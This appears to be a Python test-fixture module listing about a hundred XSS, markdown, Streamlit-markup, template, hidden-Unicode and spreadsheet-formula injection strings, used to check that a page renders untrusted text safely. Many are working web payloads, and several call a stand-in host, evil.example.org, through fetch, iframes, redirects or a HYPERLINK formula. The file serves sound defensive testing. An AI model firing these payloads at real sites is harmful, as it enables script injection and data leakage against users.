r"""A hundred texts that try to inject something into a page.

If a page interprets one of them, it shows a dialog, sends a request to `EVIL`, or contains an
element that holds just `MARK`.
"""

EVIL = "evil.example.org"
MARK = "zq7"

SCRIPTS = (
    "<script>alert(1)</script>",
    f"<script src=https://{EVIL}/a.js></script>",
    f"</script><script>fetch('https://{EVIL}/')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "\\'-alert(1)//",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    f"<img src=https://{EVIL}/pixel.png>",
    f"<img srcset='https://{EVIL}/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href=https://{EVIL}/x.svg /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<audio src=https://{EVIL}/a.mp3 autoplay>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>",
    "<b onmouseenter=alert(1)>zq7</b>",
    "<a href=javascript:alert(1)>zq7</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
)
FRAMES = (
    f"<iframe src=https://{EVIL}/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=https://{EVIL}/x></object>",
    f"<embed src=https://{EVIL}/x>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<style>@import 'https://{EVIL}/x.css'; * {{ display: none }}</style>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}/><button>zq7</button></form>",
    f"<div style=\"background:url('https://{EVIL}/x')\">zq7</div>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f"https://{EVIL}/",
    f"//{EVIL}/",
    f"www.{EVIL}",
    f"zq7@{EVIL}",
    f"<https://{EVIL}/>",
    "file:///etc/passwd",
)
MARKDOWN = (
    "**zq7**",
    "*zq7*",
    "__zq7__",
    "~~zq7~~",
    "`zq7`",
    "``` zq7 ```",
    "# zq7",
    "- zq7",
    "1. zq7",
    "> zq7",
    "| zq7 | b | |---|---| | c | d |",
    "[zq7](javascript:alert(1))",
    f"[zq7](https://{EVIL}/ 'title')",
    f"![zq7](https://{EVIL}/pixel.png)",
    f"[zq7]: https://{EVIL}/ [zq7]",
    "[^1]: zq7 [^1]",
    "- [x] zq7",
    "\\**zq7**",
)
STREAMLIT = (
    ":red[zq7]",
    ":blue-background[zq7]",
    ":rainbow[zq7]",
    ":small[zq7]",
    ":green-badge[zq7]",
    ":material/skull:",
    ":streamlit:",
    ":tada: :+1:",
    "zq7 -> zq7 <- -- >= ~=",
    ":color[zq7]{foreground='red'}",
    "$zq7$",
    "$$\\href{javascript:alert(1)}{zq7}$$",
    "\\(\\includegraphics{x}\\)",
)
ENTITIES_AND_TEMPLATES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} `${alert(1)}`",
    "<%= 7 * 7 %> #{7*7} {7*7}",
)
HIDDEN = (
    "\u202egnp.exe\u202c invoice",
    "zq\u200b7\u200d\ufeff\u2060",
    "a\u0000b\u001b[31mred\u0007",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0323\u033a\u0324l\u0318g\u0345o\u0334",
    "\U000e0061\U000e0062 tags",
    "w" * 3000,
)
FORMULAS = ('=HYPERLINK("https://evil.example.org",1)', "@SUM(1)", "+cmd|' /C calc'!A0")

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *FRAMES,
    *ADDRESSES,
    *MARKDOWN,
    *STREAMLIT,
    *ENTITIES_AND_TEMPLATES,
    *HIDDEN,
    *FORMULAS,
)
